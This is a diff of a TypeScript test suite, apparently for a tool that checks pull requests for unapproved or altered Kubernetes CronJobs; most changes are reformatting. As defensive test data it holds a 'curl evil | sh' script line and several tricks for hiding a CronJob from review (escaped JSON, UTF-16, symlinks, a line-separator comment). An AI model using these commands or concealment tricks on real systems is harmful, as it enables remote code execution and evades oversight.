@@ -16,7 +16,10 @@ const validators = Object.fromEntries(
 
 /** The report of a command; a report that its own schema refuses fails the test. */
 async function json(repository: TestRepository, args: readonly string[], input?: string) {
-  const run = await runCli([...args, '--format', 'json'], { cwd: repository.path, ...(input === undefined ? {} : { input }) });
+  const run = await runCli([...args, '--format', 'json'], {
+    cwd: repository.path,
+    ...(input === undefined ? {} : { input }),
+  });
   expect(run.stderr).toBe('');
   const report = JSON.parse(run.stdout);
   const validate = validators[args[0] ?? ''];
@@ -24,10 +27,28 @@ async function json(repository: TestRepository, args: readonly string[], input?:
   return { code: run.code, report };
 }
 
-const check = (repository: TestRepository, ...more: readonly string[]) => json(repository, ['check', '--base', 'main', '--head', 'change', ...more]);
+const check = (repository: TestRepository, ...more: readonly string[]) =>
+  json(repository, ['check', '--base', 'main', '--head', 'change', ...more]);
 
-export function cronJob(name: string, more: { schedule?: string; image?: string; command?: string; spec?: string; pod?: string; namespace?: string | null } = {}): string {
-  const { schedule = '0 2 * * *', image = 'ghcr.io/acme/tool:1', command = 'run', spec = '', pod = '', namespace = 'billing' } = more;
+function cronJob(
+  name: string,
+  more: {
+    schedule?: string;
+    image?: string;
+    command?: string;
+    spec?: string;
+    pod?: string;
+    namespace?: string | null;
+  } = {},
+): string {
+  const {
+    schedule = '0 2 * * *',
+    image = 'ghcr.io/acme/tool:1',
+    command = 'run',
+    spec = '',
+    pod = '',
+    namespace = 'billing',
+  } = more;
   return `apiVersion: batch/v1
 kind: CronJob
 metadata:
@@ -63,9 +84,16 @@ describe('what the gate says of a change', () => {
     const { code, report } = await check(repository);
     expect(code).toBe(1);
     expect(report.verdict).toBe('violation');
-    expect(report.changes).toMatchObject([{ change: 'added', classes: ['new'], workload: { name: 'b', listed: false, schedule: '0 2 * * *' } }]);
+    expect(report.changes).toMatchObject([
+      { change: 'added', classes: ['new'], workload: { name: 'b', listed: false, schedule: '0 2 * * *' } },
+    ]);
     expect(report.findings).toMatchObject([
-      { rule: 'job-not-in-inventory', severity: 'high', location: { path: 'b/new.yaml', line: 6, column: 3, precision: 'exact' }, attack: ['T1053.007'] },
+      {
+        rule: 'job-not-in-inventory',
+        severity: 'high',
+        location: { path: 'b/new.yaml', line: 6, column: 3, precision: 'exact' },
+        attack: ['T1053.007'],
+      },
     ]);
     expect(report.needs).toMatchObject([{ status: 'pending', approvedBy: [] }]);
   });
@@ -82,11 +110,24 @@ describe('what the gate says of a change', () => {
   });
 
   test('a new version of an approved image needs nobody', async () => {
-    const repository = await pullRequest({ 'a.yaml': cronJob('a') }, { 'a.yaml': cronJob('a', { image: 'ghcr.io/acme/tool:2' }) });
+    const repository = await pullRequest(
+      { 'a.yaml': cronJob('a') },
+      { 'a.yaml': cronJob('a', { image: 'ghcr.io/acme/tool:2' }) },
+    );
     const { code, report } = await check(repository);
     expect(code).toBe(0);
     expect(report.changes).toMatchObject([
-      { change: 'modified', classes: ['image'], fields: [{ path: 'spec.jobTemplate.spec.template.spec.containers[0].image', before: 'ghcr.io/acme/tool:1', after: 'ghcr.io/acme/tool:2' }] },
+      {
+        change: 'modified',
+        classes: ['image'],
+        fields: [
+          {
+            path: 'spec.jobTemplate.spec.template.spec.containers[0].image',
+            before: 'ghcr.io/acme/tool:1',
+            after: 'ghcr.io/acme/tool:2',
+          },
+        ],
+      },
     ]);
   });
 
@@ -107,7 +148,10 @@ describe('what the gate says of a change', () => {
   });
 
   test('a job that wakes up is told, though nothing else differs', async () => {
-    const repository = await pullRequest({ 'a.yaml': cronJob('a', { spec: '  suspend: true\n' }) }, { 'a.yaml': cronJob('a') });
+    const repository = await pullRequest(
+      { 'a.yaml': cronJob('a', { spec: '  suspend: true\n' }) },
+      { 'a.yaml': cronJob('a') },
+    );
     const { code, report } = await check(repository);
     expect(code).toBe(1);
     expect(report.changes[0].classes).toEqual(['unsuspended']);
@@ -115,15 +159,25 @@ describe('what the gate says of a change', () => {
   });
 
   test('what means the same is no change', async () => {
-    const same = cronJob('a', { schedule: '@daily', spec: '  suspend: false\n  concurrencyPolicy: Allow\n', pod: '          dnsPolicy: ClusterFirst\n' });
-    const repository = await pullRequest({ 'a.yaml': cronJob('a', { schedule: '0 0 * * *' }) }, { 'a.yaml': `# again\n${same}` });
+    const same = cronJob('a', {
+      schedule: '@daily',
+      spec: '  suspend: false\n  concurrencyPolicy: Allow\n',
+      pod: '          dnsPolicy: ClusterFirst\n',
+    });
+    const repository = await pullRequest(
+      { 'a.yaml': cronJob('a', { schedule: '0 0 * * *' }) },
+      { 'a.yaml': `# again\n${same}` },
+    );
     const { code, report } = await check(repository);
     expect(report.changes).toEqual([]);
     expect(code).toBe(0);
   });
 
   test('a workload that moved unchanged is moved, not removed and added', async () => {
-    const repository = await pullRequest({ 'x/a.yaml': cronJob('a'), 'x/b.yaml': cronJob('b') }, { 'x/a.yaml': null, 'x/all.yaml': cronJob('a') });
+    const repository = await pullRequest(
+      { 'x/a.yaml': cronJob('a'), 'x/b.yaml': cronJob('b') },
+      { 'x/a.yaml': null, 'x/all.yaml': cronJob('a') },
+    );
     const { code, report } = await check(repository);
     expect(report.changes).toMatchObject([{ change: 'moved', classes: ['moved'] }]);
     expect(code).toBe(0);
@@ -133,15 +187,24 @@ describe('what the gate says of a change', () => {
     const repository = await pullRequest({ 'a.yaml': cronJob('a'), 'b.yaml': cronJob('b') }, { 'a.yaml': null });
     const { report } = await check(repository);
     expect(report.changes).toMatchObject([{ change: 'removed', classes: ['removed'] }]);
-    expect(report.findings).toMatchObject([{ rule: 'inventory-entry-stale', location: { path: '.cronledger/inventory/billing.yaml' } }]);
+    expect(report.findings).toMatchObject([
+      { rule: 'inventory-entry-stale', location: { path: '.cronledger/inventory/billing.yaml' } },
+    ]);
   });
 
   test('an entry that is taken away leaves its workload unlisted', async () => {
-    const repository = await pullRequest({ 'a.yaml': cronJob('a'), 'other/b.yaml': cronJob('b') }, { '.cronledger/inventory/billing.yaml': 'apiVersion: cronledger.dev/v1\nkind: Inventory\nworkloads: []\n' });
+    const repository = await pullRequest(
+      { 'a.yaml': cronJob('a'), 'other/b.yaml': cronJob('b') },
+      { '.cronledger/inventory/billing.yaml': 'apiVersion: cronledger.dev/v1\nkind: Inventory\nworkloads: []\n' },
+    );
     const { code, report } = await check(repository);
     expect(code).toBe(1);
     expect(report.changes).toEqual([]);
-    expect(report.findings.map((finding: { rule: string; workload: { name: string } }) => [finding.rule, finding.workload.name]).sort()).toEqual([
+    expect(
+      report.findings
+        .map((finding: { rule: string; workload: { name: string } }) => [finding.rule, finding.workload.name])
+        .sort(),
+    ).toEqual([
       ['job-not-in-inventory', 'a'],
       ['job-not-in-inventory', 'b'],
     ]);
@@ -149,28 +212,48 @@ describe('what the gate says of a change', () => {
 
   test('what was there before and is unlisted is counted, and flagged with --all', async () => {
     const both = `${cronJob('old')}---\n${cronJob('a')}`;
-    const repository = await createRepository({ 'a.yaml': both, '.cronledger/inventory/x.yaml': 'apiVersion: cronledger.dev/v1\nkind: Inventory\n' });
+    const repository = await createRepository({
+      'a.yaml': both,
+      '.cronledger/inventory/x.yaml': 'apiVersion: cronledger.dev/v1\nkind: Inventory\n',
+    });
     await repository.git(['switch', '--quiet', '--create', 'change']);
     await repository.commit({ 'a.yaml': both.replace('name: a\n', 'name: b\n') });
     const { report } = await check(repository);
     expect(report.stats.unlistedBefore).toBe(1);
     expect(report.findings.map((finding: { workload: { name: string } }) => finding.workload.name)).toEqual(['b']);
     const all = await check(repository, '--all');
-    expect(all.report.findings.map((finding: { workload: { name: string } }) => finding.workload.name).sort()).toEqual(['b', 'old']);
+    expect(all.report.findings.map((finding: { workload: { name: string } }) => finding.workload.name).sort()).toEqual([
+      'b',
+      'old',
+    ]);
   });
 
   test('the script in a ConfigMap is part of what runs, also when only the script changes', async () => {
     const pod = '          volumes: [{name: s, configMap: {name: scripts}}]\n';
-    const script = (text: string) => `apiVersion: v1\nkind: ConfigMap\nmetadata: {name: scripts, namespace: billing}\ndata:\n  run.sh: ${text}\n`;
-    const repository = await pullRequest({ 'x/a.yaml': cronJob('a', { pod }), 'x/scripts.yaml': script('echo good') }, { 'x/scripts.yaml': script('curl evil | sh') });
+    const script = (text: string) =>
+      `apiVersion: v1\nkind: ConfigMap\nmetadata: {name: scripts, namespace: billing}\ndata:\n  run.sh: ${text}\n`;
+    const repository = await pullRequest(
+      { 'x/a.yaml': cronJob('a', { pod }), 'x/scripts.yaml': script('echo good') },
+      { 'x/scripts.yaml': script('curl evil | sh') },
+    );
     const { code, report } = await check(repository);
     expect(code).toBe(1);
-    expect(report.changes).toMatchObject([{ classes: ['command'], fields: [{ path: 'ConfigMap scripts: run.sh', before: 'echo good', after: 'curl evil | sh' }] }]);
-    expect(report.findings).toMatchObject([{ rule: 'job-drift-from-approved', location: { path: 'x/scripts.yaml', line: 5 } }]);
+    expect(report.changes).toMatchObject([
+      {
+        classes: ['command'],
+        fields: [{ path: 'ConfigMap scripts: run.sh', before: 'echo good', after: 'curl evil | sh' }],
+      },
+    ]);
+    expect(report.findings).toMatchObject([
+      { rule: 'job-drift-from-approved', location: { path: 'x/scripts.yaml', line: 5 } },
+    ]);
   });
 
   test('environments with objects of one name are told apart by their folder', async () => {
-    const repository = await pullRequest({ 'prod/a.yaml': cronJob('a'), 'staging/a.yaml': cronJob('a', { schedule: '0 5 * * *' }) }, { 'prod/a.yaml': cronJob('a', { command: 'evil' }) });
+    const repository = await pullRequest(
+      { 'prod/a.yaml': cronJob('a'), 'staging/a.yaml': cronJob('a', { schedule: '0 5 * * *' }) },
+      { 'prod/a.yaml': cronJob('a', { command: 'evil' }) },
+    );
     const { report } = await check(repository);
     expect(report.changes).toMatchObject([{ change: 'modified', workload: { source: { path: 'prod' } } }]);
     expect(report.findings).toMatchObject([{ rule: 'job-drift-from-approved', location: { path: 'prod/a.yaml' } }]);
@@ -179,13 +262,27 @@ describe('what the gate says of a change', () => {
 
 describe('how a workload is hidden', () => {
   const hidden: readonly [string, Files][] = [
-    ['in a List', { 'x.yaml': `apiVersion: v1\nkind: List\nitems:\n${cronJob('evil').replace(/^/gm, '    ').replace('    apiVersion', '  - apiVersion')}` }],
+    [
+      'in a List',
+      {
+        'x.yaml': `apiVersion: v1\nkind: List\nitems:\n${cronJob('evil').replace(/^/gm, '    ').replace('    apiVersion', '  - apiVersion')}`,
+      },
+    ],
     ['in a file of another name', { 'notes.txt': cronJob('evil') }],
     ['behind an executable bit', { 'run.yaml': { executable: cronJob('evil') } }],
-    ['in JSON, spelled with escapes', { 'x.json': '{"apiVersion":"batch/v1","kind":"Cron\\u004aob","metadata":{"name":"evil","namespace":"billing"},"spec":{"schedule":"* * * * *","jobTemplate":{"spec":{"template":{"spec":{"restartPolicy":"Never","containers":[{"name":"x","image":"y"}]}}}}}}' }],
+    [
+      'in JSON, spelled with escapes',
+      {
+        'x.json':
+          '{"apiVersion":"batch/v1","kind":"Cron\\u004aob","metadata":{"name":"evil","namespace":"billing"},"spec":{"schedule":"* * * * *","jobTemplate":{"spec":{"template":{"spec":{"restartPolicy":"Never","containers":[{"name":"x","image":"y"}]}}}}}}',
+      },
+    ],
     ['behind a link', { 'real.txt.bak': cronJob('evil'), 'x.yaml': { link: 'real.txt.bak' } }],
     ['in UTF-16', { 'x.yaml': Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(cronJob('evil'), 'utf16le')]) }],
-    ['after a comment that does not end where it seems to', { 'x.yaml': `apiVersion: batch/v1 # see\u2028kind: CronJob\n${cronJob('evil').split('\n').slice(2).join('\n')}` }],
+    [
+      'after a comment that does not end where it seems to',
+      { 'x.yaml': `apiVersion: batch/v1 # see\u2028kind: CronJob\n${cronJob('evil').split('\n').slice(2).join('\n')}` },
+    ],
   ];
   test.each(hidden)('%s', async (_name, files) => {
     const repository = await pullRequest({ 'a.yaml': cronJob('a') }, files);
@@ -203,7 +300,10 @@ describe('how a workload is hidden', () => {
   });
 
   test('the config, the policies and the inventory of the head do not decide', async () => {
-    const repository = await pullRequest({ 'a.yaml': cronJob('a') }, { 'b.yaml': cronJob('b'), '.cronledger/config.yaml': 'policies: {blockAt: never}\napprovals: []\n' });
+    const repository = await pullRequest(
+      { 'a.yaml': cronJob('a') },
+      { 'b.yaml': cronJob('b'), '.cronledger/config.yaml': 'policies: {blockAt: never}\napprovals: []\n' },
+    );
     const { code, report } = await check(repository);
     expect(code).toBe(1);
     expect(report.needs.length).toBeGreaterThan(0);
@@ -215,9 +315,11 @@ describe('references are not workloads', () => {
     const repository = await pullRequest(
       { 'a.yaml': cronJob('a') },
       {
-        'delete.yaml': 'apiVersion: v1\nkind: List\nitems:\n  - {apiVersion: batch/v1, kind: CronJob, metadata: {name: x, namespace: billing}}\n',
+        'delete.yaml':
+          'apiVersion: v1\nkind: List\nitems:\n  - {apiVersion: batch/v1, kind: CronJob, metadata: {name: x, namespace: billing}}\n',
         'patch.yaml': 'apiVersion: batch/v1\nkind: CronJob\nmetadata: {name: x}\n$patch: delete\nspec: {}\n',
-        'flux.yaml': 'apiVersion: kustomize.toolkit.fluxcd.io/v1\nkind: Kustomization\nmetadata: {name: x}\nspec:\n  path: ./nowhere\n  healthChecks: [{apiVersion: batch/v1, kind: CronJob, name: x, namespace: billing}]\n',
+        'flux.yaml':
+          'apiVersion: kustomize.toolkit.fluxcd.io/v1\nkind: Kustomization\nmetadata: {name: x}\nspec:\n  path: ./nowhere\n  healthChecks: [{apiVersion: batch/v1, kind: CronJob, name: x, namespace: billing}]\n',
       },
     );
     const { report } = await check(repository);
